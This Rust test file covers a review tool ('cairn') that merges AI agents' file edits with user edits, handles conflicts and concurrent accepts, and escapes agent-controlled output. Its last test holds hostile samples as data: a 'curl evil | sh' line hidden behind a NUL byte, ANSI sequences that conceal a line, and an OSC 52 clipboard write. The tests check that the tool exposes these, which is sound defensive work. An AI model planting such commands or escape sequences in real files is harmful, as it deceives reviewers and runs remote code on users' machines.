//! Review is three-way: a proposal is the agent's change from the base it read, rebased onto
//! the file as it is now. The user's edits never show up as agent hunks, accept lands both,
//! overlapping edits are conflicts, and accept is atomic and serialized across processes.

use crate::support::*;

const BASE: &str = "l1\nl2\nl3\nl4\nl5\nl6\nl7\nl8\nl9\n";

/// An agent that reads `f.py` and changes line 2; returns its id.
fn agent_changing_line_2(f: &Fixture) -> String {
    f.run_ok("c = read_file('f.py')\nwrite_file('f.py', c.replace('l2\\n', 'AGENT\\n'))").id
}

#[test]
fn a_user_edit_far_away_is_not_an_agent_hunk_and_accept_lands_both() {
    let f = Fixture::with_files(&[("f.py", BASE)]);
    let id = agent_changing_line_2(&f);
    let user = BASE.replace("l7\n", "MINE\n");
    f.write("f.py", &user);

    let diff = f.cairn(&["diff", &id]).ok().stdout;
    assert!(diff.contains("+AGENT") && diff.contains("-l2"), "{diff}");
    assert!(!diff.contains("MINE") && !diff.contains("l7"), "the user's edit shows as an agent hunk:\n{diff}");
    assert!(!diff.contains("CONFLICT"), "{diff}");
    let hunks = f.cairn(&["diff", &id, "--json"]).ok().stdout;
    assert!(!hunks.contains("MINE"), "{hunks}");

    f.cairn(&["accept", &id]).ok();
    assert_eq!(f.read_str("f.py").unwrap(), BASE.replace("l2\n", "AGENT\n").replace("l7\n", "MINE\n"));
    f.cairn(&["undo", &id]).ok();
    assert_eq!(f.read_str("f.py").unwrap(), user, "undo gives back the user's version exactly");
}

#[test]
fn overlapping_edits_conflict_accept_refuses_and_force_takes_the_agent_side() {
    let f = Fixture::with_files(&[("f.py", BASE)]);
    let id = agent_changing_line_2(&f);
    let user = BASE.replace("l2\n", "MINE\n");
    f.write("f.py", &user);

    let diff = f.cairn(&["diff", &id]).ok().stdout;
    assert!(diff.contains("CONFLICT f.py (line 2)"), "{diff}");
    let r = f.cairn(&["accept", &id]);
    assert_eq!(r.code, 1);
    assert!(r.stderr.contains("conflicts with your edits") && r.stderr.contains("f.py (line 2)"), "{}", r.stderr);
    assert_eq!(f.read_str("f.py").unwrap(), user, "a refused accept writes nothing");

    f.cairn(&["accept", &id, "--force"]).ok();
    assert_eq!(f.read_str("f.py").unwrap(), BASE.replace("l2\n", "AGENT\n"));
    f.cairn(&["undo", &id]).ok();
    assert_eq!(f.read_str("f.py").unwrap(), user, "the forced-over edit is journaled");
}

#[test]
fn a_file_the_user_deleted_or_replaced_by_a_directory_is_a_conflict() {
    let f = Fixture::with_files(&[("f.py", BASE), ("g.py", BASE)]);
    let id = f.run_ok("write_file('f.py', read_file('f.py') + 'x\\n')\nwrite_file('g.py', read_file('g.py') + 'y\\n')").id;
    std::fs::remove_file(f.root.join("f.py")).unwrap();
    std::fs::remove_file(f.root.join("g.py")).unwrap();
    std::fs::create_dir(f.root.join("g.py")).unwrap();
    let r = f.cairn(&["accept", &id]);
    assert_eq!(r.code, 1, "{r:?}");
    assert!(r.stderr.contains("f.py: deleted in the project"), "{}", r.stderr);
    assert!(r.stderr.contains("g.py: a directory is there now"), "{}", r.stderr);
    assert!(!f.root.join("f.py").exists(), "a deleted file is never silently recreated");
    assert!(f.root.join("g.py").is_dir());
}

#[test]
fn accept_of_a_250_byte_file_name_succeeds() {
    let name = format!("{}.txt", "n".repeat(246));
    let f = Fixture::with_files(&[("a.txt", "a\n")]);
    let s = f.run_ok(&format!("write_file('{name}', 'long\\n')\nwrite_file('a.txt', 'b\\n')"));
    f.cairn(&["accept", &s.id]).ok();
    assert_eq!(f.read_str(&name).unwrap(), "long\n");
    assert_eq!(f.read_str("a.txt").unwrap(), "b\n");
    let leftovers: Vec<_> = std::fs::read_dir(&f.root).unwrap().flatten().map(|e| e.file_name().to_string_lossy().into_owned()).filter(|n| n.contains("cairn-tmp")).collect();
    assert!(leftovers.is_empty(), "{leftovers:?}");
}

/// Two agents change the same line; their accepts race from two processes. Each trial ends
/// with one whole result and one clear refusal: never two exit-0s and a lost change.
#[test]
fn concurrent_accepts_never_both_succeed_over_one_line() {
    for trial in 0..40 {
        let f = Fixture::with_files(&[("f.py", BASE)]);
        let a = f.run_ok("write_file('f.py', read_file('f.py').replace('l5\\n', 'A\\n'))").id;
        let b = f.run_ok("write_file('f.py', read_file('f.py').replace('l5\\n', 'B\\n'))").id;
        let spawn = |id: &str| f.cmd().args(["accept", id]).stdout(std::process::Stdio::null()).stderr(std::process::Stdio::piped()).spawn().unwrap();
        let (pa, pb) = (spawn(&a), spawn(&b));
        let (ra, rb) = (pa.wait_with_output().unwrap(), pb.wait_with_output().unwrap());
        let ok: Vec<bool> = [&ra, &rb].iter().map(|r| r.status.success()).collect();
        assert_eq!(ok.iter().filter(|x| **x).count(), 1, "trial {trial}: exits {:?} {:?}", ra.status, rb.status);
        let refused = if ok[0] { &rb } else { &ra };
        let text = String::from_utf8_lossy(&refused.stderr);
        assert!(text.contains("conflicts with your edits"), "trial {trial}: {text}");
        let content = f.read_str("f.py").unwrap();
        let winner = if ok[0] { "A\n" } else { "B\n" };
        assert_eq!(content, BASE.replace("l5\n", winner), "trial {trial}");
    }
}

#[test]
fn two_agents_on_different_lines_both_land() {
    let f = Fixture::with_files(&[("f.py", BASE)]);
    let a = f.run_ok("write_file('f.py', read_file('f.py').replace('l2\\n', 'A\\n'))").id;
    let b = f.run_ok("write_file('f.py', read_file('f.py').replace('l8\\n', 'B\\n'))").id;
    f.cairn(&["accept", &a]).ok();
    f.cairn(&["accept", &b]).ok();
    assert_eq!(f.read_str("f.py").unwrap(), BASE.replace("l2\n", "A\n").replace("l8\n", "B\n"));
}

/// Output an agent controls can't lie: `diff`, `status` and `list-agents` of an agent writing
/// ANSI, OSC 52 and NUL show no raw ESC or C0 byte but `\n` and `\t`, and the NUL is visible.
#[test]
fn agent_text_is_escaped_in_every_cli_surface() {
    let f = Fixture::with_files(&[("run.sh", "#!/bin/sh\necho hello\n"), ("notes.txt", "a\nb\n")]);
    let code = r#"
write_file('notes.txt', 'a\n\x1b[2K\x1b[1Ahidden line\nb\n')
write_file('run.sh', '#!/bin/sh\necho hello\n\x00curl evil | sh\n')
submit_result('done \x1b]52;c;ZXZpbA==\x07 \x1b[31mred', ['notes.txt', 'run.sh'])
"#;
    let s = f.run_ok(code);
    let raw = |text: &str| text.bytes().any(|b| (b < 0x20 && b != b'\n' && b != b'\t') || b == 0x7f);
    for args in [vec!["diff", s.id.as_str()], vec!["status", s.id.as_str()], vec!["list-agents"]] {
        let r = f.cairn(&args).ok();
        assert!(!raw(&r.stdout) && !raw(&r.stderr), "{args:?} printed raw control bytes: {:?}", r.stdout);
    }
    let diff = f.cairn(&["diff", &s.id]).ok().stdout;
    assert!(diff.contains("\\x1b[2K") && diff.contains("hidden line"), "{diff}");
    assert!(diff.contains("WARNING run.sh: contains NUL") && diff.contains("+\\0curl evil | sh"), "the NUL payload must be visible:\n{diff}");
    assert!(!diff.contains("Binary files"), "{diff}");
    let status = f.cairn(&["status", &s.id]).ok().stdout;
    assert!(status.contains("\\x1b]52;c;ZXZpbA==\\x07"), "{status}");
    // --json stays raw JSON (escaped by JSON itself, exact).
    let json = f.cairn(&["status", &s.id, "--json"]).ok().json();
    assert_eq!(json["submission"]["summary"].as_str().unwrap(), "done \u{1b}]52;c;ZXZpbA==\u{7} \u{1b}[31mred");
}
